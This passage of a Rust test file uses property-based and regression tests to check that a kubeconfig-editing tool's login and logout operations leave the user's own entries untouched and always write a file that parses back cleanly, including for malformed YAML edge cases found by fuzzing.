            let flow = format!("{{name: {name}, {body}: {{{}}}}}", flow_fields.join(", "));
            let mut block = format!("name: {name}");
            if comment {
                block.push_str(" # the name");
            }
            if fields.is_empty() {
                block.push_str(&format!("\n@{body}: {{}}"));
            } else {
                block.push_str(&format!("\n@{body}:"));
                for (k, v) in &fields {
                    block.push_str(&format!("\n@  {k}: {v}"));
                }
            }
            (block, flow)
        })
}

fn list_text(key: &'static str, body: &'static str) -> impl Strategy<Value = String> {
    prop_oneof![
        1 => Just(String::new()),
        1 => Just(format!("{key}:\n")),
        1 => Just(format!("{key}: []\n")),
        4 => (prop::collection::vec(entry_text(body), 1..4), 0..3usize).prop_map(move |(items, style)| {
            match style {
                2 => {
                    let flows: Vec<&str> = items.iter().map(|(_, f)| f.as_str()).collect();
                    format!("{key}: [{}]\n", flows.join(", "))
                }
                indent => {
                    let pad = " ".repeat(indent * 2);
                    let mut out = format!("{key}:\n");
                    for (block, _) in &items {
                        let item = block.replace('@', &format!("{pad}  "));
                        out.push_str(&format!("{pad}- {item}\n"));
                    }
                    out
                }
            }
        }),
    ]
}

fn foreign_text() -> impl Strategy<Value = String> {
    (
        list_text("clusters", "cluster"),
        list_text("users", "user"),
        list_text("contexts", "context"),
        // Not a name tka gives its contexts: a current-context that names a context tka creates
        // later is a different story (the chain of previous contexts then runs through it).
        prop::option::of(name_text().prop_filter("not a tka context", |n| !n.contains("tka"))),
        prop::collection::vec(("x-[a-z]{1,6}", scalar_text()), 0..3),
        any::<bool>(),
    )
        .prop_map(|(clusters, users, contexts, current, extra, comment)| {
            let mut text = String::from("apiVersion: v1\n");
            if comment {
                text.push_str("# a comment of the user's\n");
            }
            text.push_str(&clusters);
            text.push_str(&users);
            text.push_str(&contexts);
            if let Some(c) = current {
                text.push_str(&format!("current-context: {c}\n"));
            }
            for (k, v) in extra {
                text.push_str(&format!("{k}: {v}\n"));
            }
            text
        })
}

fn logout_cluster(config: &mut Kubeconfig, cluster: Option<&str>) {
    let names: Vec<String> = config
        .tka_contexts()
        .into_iter()
        .filter(|c| cluster.is_none_or(|want| c.marker.cluster.as_str() == want))
        .map(|c| c.name)
        .collect();
    for name in names {
        assert!(config.logout(&name).unwrap().is_some());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn logins_and_logouts_never_touch_foreign_entries(
        text in foreign_text(),
        ops in prop::collection::vec(op(), 0..10),
    ) {
        let original = Kubeconfig::parse(&text).unwrap();
        let mut config = original.clone();
        let alt = ContextTemplate::parse("{cluster}-via-tka").unwrap();
        for op in &ops {
            let before = config.clone();
            match *op {
                Op::Login { cluster, switch, alt_template } => {
                    let template = if alt_template { alt.clone() } else { ContextTemplate::default() };
                    let e = entries_with(CLUSTERS[cluster], &template, exec());
                    match config.login(&e, switch) {
                        Ok(_) => {
                            if switch {
                                prop_assert_eq!(config.current_context(), Some(e.context_name()));
                            }
                        }
                        Err(err) => {
                            let refused = matches!(err, KubeconfigError::ForeignEntry { .. });
                            prop_assert!(refused, "{}", err);
                            prop_assert_eq!(&config, &before);
                        }
                    }
                }
                Op::Logout { cluster } => logout_cluster(&mut config, Some(CLUSTERS[cluster])),
                Op::LogoutAll => logout_cluster(&mut config, None),
            }
            prop_assert_eq!(foreign_texts(&config), foreign_texts(&original), "{}", config.text);
            // What is written reads back as the same tree.
            let reread = Kubeconfig::parse(&config.render().unwrap()).unwrap();
            prop_assert_eq!(&reread.root, &config.root);
        }
        logout_cluster(&mut config, None);
        prop_assert!(config.tka_contexts().is_empty());
        prop_assert_eq!(config.current_context(), original.current_context());
    }
}

#[test]
fn a_blank_line_holding_a_tab_refuses_the_login_and_changes_nothing() {
    // Appended after such a line, tka's entries left a file serde_yaml no longer read
    // ("found character that cannot start any token"); found by the fuzzing smoke.
    for text in [
        "apiVersion: v1\nkind: Config\n  \t",
        "apiVersion: v1\n\t\nkind: Config\n",
    ] {
        let mut config = Kubeconfig::parse(text).unwrap();
        let unchanged = config.clone();
        let err = config.login(&entries("prod"), true).unwrap_err();
        assert!(matches!(err, KubeconfigError::BlankLineWithTab(_)), "{err}");
        assert!(
            err.to_string()
                .contains("delete the whitespace on that line"),
            "{err}"
        );
        assert_eq!(config, unchanged);
    }
    // An anchored top level (whose anchor name YAML readers disagree on) is not edited either.
    for text in [
        "&pV:{:#} a ",
        "!!binary &pV:{:#} a ",
        "clusters: []\n!!binary users: []\ncontexts: []\n",
    ] {
        let mut config = Kubeconfig::parse(text).unwrap();
        let unchanged = config.clone();
        let err = config.login(&entries("prod"), true).unwrap_err();
        assert!(matches!(err, KubeconfigError::Unsupported(_)), "{err}");
        assert_eq!(config, unchanged);
    }
    // Blank lines of spaces only are fine.
    let mut config = Kubeconfig::parse("apiVersion: v1\nkind: Config\n   \n").unwrap();
    config.login(&entries("prod"), true).unwrap();
    serde_yaml::from_str::<serde_yaml::Value>(&config.render().unwrap()).unwrap();
}

#[test]
fn an_entry_appended_after_an_empty_flow_value_keeps_the_file_readable() {
    // `[a: ]` ends in a key with an empty value; appending `, {…}` straight after its colon
    // made `a:,` one plain scalar, which YAML readers refuse; found by the fuzzing smoke.
    for text in [
        "clusters: [Content-Length: ]\nusers: []\ncontexts: []\n",
        "clusters: [{name: a, cluster: }]\nusers: []\ncontexts: []\npreferences: {colors: }\n",
    ] {
        let mut config = Kubeconfig::parse(text).unwrap();
        config.login(&entries("prod"), true).unwrap();
        let after = config.render().unwrap();
        serde_yaml::from_str::<serde_yaml::Value>(&after)
            .unwrap_or_else(|e| panic!("{e}\n{after}"));
        Kubeconfig::parse(&after).unwrap();
    }
}

#[test]
fn a_login_after_an_entry_with_an_empty_last_value_can_be_logged_out_of() {
    for text in [
        "clusters:\n- name: kind-dev\n  cluster:\n",
        "clusters:\n- name: kind-dev\n  cluster:\n   ",
        "clusters:\n- name: kind-dev\n  cluster:",
    ] {
        let mut config = Kubeconfig::parse(text).unwrap();
        config.login(&entries("prod"), true).unwrap();
        let after_login = config.render().unwrap();
        config
            .logout("tka-prod")
            .unwrap_or_else(|e| panic!("{e}\n{after_login:?}"))
            .unwrap();
        assert!(config.tka_contexts().is_empty());
    }
}
